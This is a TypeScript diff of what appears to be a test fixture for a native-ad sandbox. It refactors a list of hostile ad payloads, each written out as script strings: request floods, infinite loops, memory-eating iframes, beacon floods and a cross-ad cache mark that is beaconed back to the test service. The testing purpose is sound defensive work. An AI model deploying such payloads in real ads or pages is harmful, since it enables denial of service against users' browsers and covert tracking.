@@ -31,13 +31,10 @@ const banner = (script: string) => ({
   html: `<body style="background:rgb(130,40,170)"><p style="font-size:60px">sale</p><script>${script}</script></body>`,
 });
 
-/** Banners and scripts of native ads (rule 17). */
-export const GUESTS: readonly Attack[] = [
+const ATTACKS: ReadonlyArray<Omit<Attack, 'seconds' | 'oddPictures'>> = [
   {
     name: 'a banner that asks 1,500 times for the pages of other guests',
     row: 8,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       nativeAds(field, [
         banner(
@@ -46,25 +43,19 @@ export const GUESTS: readonly Attack[] = [
         quiet,
         quiet,
       ]);
-      return undefined;
     },
   },
   {
     name: 'a flood of requests for a guest that nobody is',
     row: 9,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       const flood = `const on = () => { for (let i = 0; i < 200; i++) { fetch('guest://nobody/' + Math.random(), { mode: 'no-cors' }).catch(() => {}); fetch('http://nobody.localhost/' + Math.random(), { mode: 'no-cors' }).catch(() => {}); } setTimeout(on); }; on();`;
       nativeAds(field, [banner(flood), { js: flood }, quiet]);
-      return undefined;
     },
   },
   {
     name: 'a mark in the cache that the next ad looks for',
     row: 17,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       const { service } = field;
       let marks = 0;
@@ -96,14 +87,11 @@ export const GUESTS: readonly Attack[] = [
         html: `<body style="background:rgb(130,40,170)"><p style="font-size:60px">sale</p><script src="${service.origin}/hostile/mark.js"></script><script>new Image().src = '${service.origin}/hostile/found?mark=' + globalThis.mark + '&at=' + Math.random()</script></body>`,
       };
       nativeAds(field, [look, look, look]);
-      return () => [...new Set(told)];
+      field.judge(() => [...new Set(told)]);
     },
   },
   {
     name: 'banners that loop, eat memory, leave, or draw nothing',
-    row: null,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       nativeAds(field, [
         banner('for (;;);'),
@@ -115,14 +103,10 @@ export const GUESTS: readonly Attack[] = [
         { html: '<iframe srcdoc="x"></iframe>'.repeat(3_000) },
         quiet,
       ]);
-      return undefined;
     },
   },
   {
     name: 'script beacons that loop, throw, flood and never end',
-    row: null,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       nativeAds(field, [
         { js: 'for (;;);' },
@@ -134,14 +118,10 @@ export const GUESTS: readonly Attack[] = [
           js: `setInterval(() => { new Image().src = '${field.service.origin}/collect/x?' + Math.random() })`,
         },
       ]);
-      return undefined;
     },
   },
   {
     name: 'native ads of assets without end',
-    row: null,
-    seconds: SECONDS,
-    oddPictures: true,
     begin(field) {
       const { origin } = field.service;
       const asset = { type: 'title', data: { text: '\u202e'.repeat(2_000) } };
@@ -159,7 +139,9 @@ export const GUESTS: readonly Attack[] = [
           beacons: Array(5_000).fill({ type: 'impression', data: { url: `${origin}/collect/many` } }),
         },
       ]);
-      return undefined;
     },
   },
 ];
+
+/** Banners and scripts of native ads (rule 17). */
+export const GUESTS = ATTACKS.map((attack): Attack => ({ ...attack, seconds: SECONDS, oddPictures: true }));
